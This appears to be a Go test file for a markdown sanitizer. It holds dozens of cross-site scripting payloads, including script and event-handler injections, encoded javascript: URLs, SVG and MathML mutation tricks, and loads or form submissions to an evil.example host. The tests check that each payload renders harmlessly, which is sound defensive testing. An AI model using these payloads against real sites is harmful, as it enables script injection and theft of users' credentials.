package markdown_test

import (
	"strings"
	"testing"

	"github.com/fc-registry/fc-registry/pkg/markdown"
)

// attacks returns texts that would run a script, load what they should not,
// leave their place or pass for a part of the page, if they were let.
func attacks() []string {
	var all []string
	for _, list := range []string{elementAttacks, addressAttacks, markdownAttacks, structureAttacks} {
		for text := range strings.SplitSeq(strings.Trim(list, "\n"), "\n%%\n") {
			all = append(all, escapes().Replace(text))
		}
	}
	return all
}

// escapes lets the lists below hold what a source file should not.
func escapes() *strings.Replacer {
	return strings.NewReplacer(`{NUL}`, "\x00", `{TAB}`, "\t", `{CR}`, "\r", `{LF}`, "\n", `{FF}`, "\f", `{VT}`, "\v",
		`{BAD}`, "\xc0\xbcscript\xff", `{1}`, "\x01", `{NBSP}`, "\u00a0", `{LS}`, "\u2028", `{RTL}`, "\u202e", `{TICK}`, "`", `{WIDE}`, "\uff1c")
}

const elementAttacks = `
<script>alert(1)</script>
%%
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
%%
<scr<script>ipt>alert(1)</scr</script>ipt>
%%
<script{NUL}>alert(1)</script>
%%
<script{TAB}>alert(1)</script{LF}>
%%
<script/x>alert(1)</script/x>
%%
<<script>alert(1);//<</script>
%%
<script>alert(1)
%%
{WIDE}script>alert(1){WIDE}/script>
%%
{BAD}>alert(1)</script>
%%
<img src=x onerror=alert(1)>
%%
<img src="https://a.example/x" onerror="alert(1)" ONLOAD=alert(1) onerror{NUL}=alert(1)>
%%
<img/src="https://a.example/"/onerror=alert(1)>
%%
<img """><script>alert(1)</script>">
%%
<IMG onmouseover="alert(1)">
%%
<img src="https://a.example/x"onerror="alert(1)">
%%
<img src=https://a.example/{TICK}onerror=alert(1)//{TICK}>
%%
<img srcset="https://evil.example/x 1x" src="https://a.example/x" sizes=1>
%%
<img src="https://a.example/x" usemap="#m" ismap longdesc=javascript:alert(1)><map name=m><area href=javascript:alert(1)></map>
%%
<svg onload=alert(1)>
%%
<svg><script>alert(1)</script></svg>
%%
<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>
%%
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
%%
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
%%
<svg><style><img src=x onerror=alert(1)></style></svg>
%%
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
%%
<math><a xlink:href="javascript:alert(1)">x</a></math>
%%
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
%%
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
%%
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
%%
<template><script>alert(1)</script></template>
%%
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
%%
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
%%
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
%%
<title><img src=x onerror=alert(1)></title>
%%
<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>
%%
<plaintext><img src=x onerror=alert(1)>
%%
<select><option><style></option></select><img src=x onerror=alert(1)></style>
%%
<iframe src="javascript:alert(1)"></iframe>
%%
<iframe srcdoc="<script>alert(1)</script>"></iframe>
%%
<object data="data:text/html,<script>alert(1)</script>"></object>
%%
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
%%
<applet code=x></applet><param name=src value=javascript:alert(1)>
%%
<video src=https://a.example/x onloadstart=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>
%%
<form action="https://evil.example/"><input name=token type=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>Sign in</button></form>
%%
<isindex type=image src=1 onerror=alert(1)>
%%
<keygen autofocus onfocus=alert(1)><input type=image src=https://a.example/x formaction=//evil.example>
%%
<base href="https://evil.example/"><a href="/x">x</a>
%%
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
%%
<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href=//evil.example>
%%
<style>@import "https://evil.example/x.css";</style>
%%
<style>body{display:none}</style><style></style ><img src=x onerror=alert(1)>
%%
<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>
%%
<body onload=alert(1)><html onclick=alert(1)><frameset onload=alert(1)><frame src=javascript:alert(1)>
%%
<marquee onstart=alert(1)>x</marquee><blink>x</blink><bgsound src=javascript:alert(1)>
%%
<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>
%%
<table background="javascript:alert(1)"><td background=javascript:alert(1)>x</table>
%%
<x onclick=alert(1) contenteditable tabindex=1 id=x>focus</x>
%%
<dialog open><button popovertarget=x>x</button></dialog><div popover id=x onbeforetoggle=alert(1)>
%%
<!--><img src=x onerror=alert(1)>-->
%%
<!-- --!><img src=x onerror=alert(1)>
%%
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
%%
<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html><!ELEMENT x>
%%
<? foo="><script>alert(1)</script>">
%%
<img title="a > b" alt='</p><script>alert(1)</script>' src=https://a.example/x>
%%
<p align="center&quot; onclick=&quot;alert(1)">x</p>
%%
<custom-element onclick=alert(1) is=x>x</custom-element><x-b>x</x-b><x-a href=javascript:alert(1)>x</x-a>
`

const addressAttacks = `
<a href="javascript:alert(1)">x</a>
%%
<a href="JaVaScRiPt:alert(1)">x</a>
%%
<a href=" javascript:alert(1)">x</a>
%%
<a href="{1}javascript:alert(1)">x</a>
%%
<a href="java{TAB}script:alert(1)">x</a>
%%
<a href="java{LF}script:alert(1)">x</a>
%%
<a href="java{NUL}script:alert(1)">x</a>
%%
<a href="java&#9;script:alert(1)">x</a>
%%
<a href="java&NewLine;script:alert(1)">x</a>
%%
<a href="javascript&colon;alert(1)">x</a>
%%
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
%%
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
%%
<a href="&#0000106avascript:alert(1)">x</a>
%%
<a href="javascript%3Aalert(1)">x</a>
%%
<a href="&amp;#106;avascript:alert(1)">x</a>
%%
<a href="{NBSP}javascript:alert(1)">x</a><a href="{LS}javascript:alert(1)">x</a>
%%
<a href="javascript://%0aalert(1)">x</a>
%%
<a href="vbscript:msgbox(1)">x</a><a href="livescript:x">x</a><a href="mocha:x">x</a>
%%
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
%%
<a href="data:,x" download>x</a><a href="blob:https://a.example/x">x</a><a href="file:///etc/passwd">x</a>
%%
<a href="//evil.example/x">x</a><a href="/\evil.example">x</a><a href="\\evil.example">x</a>
%%
<a href="https:evil.example">x</a><a href="https:/evil.example">x</a><a href="http:///evil.example">x</a><a href="https:\\evil.example">x</a>
%%
<a href="?delete=1">x</a><a href="/me/tokens">x</a><a href="">x</a><a href>x</a><a>x</a>
%%
<a href="https://a.example/" target="_blank" rel="opener" ping="https://evil.example/" onclick=alert(1)>x</a>
%%
<a href="https://a.example/" target="_top" href="javascript:alert(1)">x</a>
%%
<a href=javascript:alert(1) href=https://a.example/>x</a>
%%
<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>
%%
<a href="https://a.example/' onmouseover='alert(1)">x</a>
%%
<a href="#"></a><a href="#x">x</a><a href="#readme-x" id=x name=x>x</a>
%%
<a href="https://user:password@a.example:443/%zz">x</a>
%%
<a href="mailto:a@b.example?subject=x%0d%0aBcc:c@d.example&body=<script>">x</a>
%%
<img src="javascript:alert(1)"><img src="vbscript:x"><img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>
%%
<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x"><img src="http://a.example/x" alt="plain">
%%
<img src="//a.example/x" alt="<script>alert(1)</script>"><img src="/sign-out" alt=x><img src=x alt=x>
%%
<img src="https:/sign-out"><img src="https:sign-out"><img src="https:///x"><img src="https:\\a.example">
%%
<blockquote cite="javascript:alert(1)"><q cite="javascript:alert(1)">x</q><del cite=javascript:alert(1)>x</del></blockquote>
`

func TestAnAttackIsRenderedHarmless(t *testing.T) {
	r, check := markdown.New(), newChecker()
	for _, source := range attacks() {
		t.Run(source, func(t *testing.T) {
			check.safe(t, string(r.HTML(source, prefix)))
		})
	}
}

func TestAnAttackWithinOtherMarkdownIsRenderedHarmless(t *testing.T) {
	r, check := markdown.New(), newChecker()
	for _, frame := range []string{"> %s", "- %s\n- x", "<div>%s</div>", "<table><tr><td>%s</table>", "| a |\n| - |\n| %s |", "# %s",
		"*a %s b*", "[%s](https://a.example/)", "![%s](https://a.example/)", "<details><summary>%s</summary>x</details>", "<svg>%s</svg>",
		"<!-- %s -->", "<pre>%s</pre>", "<a href='https://a.example/'>%s", "<p align=\"%s\">"} {
		t.Run(frame, func(t *testing.T) {
			for _, source := range attacks() {
				check.safe(t, string(r.HTML(strings.ReplaceAll(frame, "%s", source), prefix)))
			}
		})
	}
}

func TestAnAttackOnTheCodeIsRenderedHarmless(t *testing.T) {
	r, check := markdown.New(), newChecker()
	for _, source := range attacks() {
		for _, language := range []string{"yaml", "html", `"><script>`, ""} {
			check.safe(t, string(r.Code(source, language)))
		}
	}
}
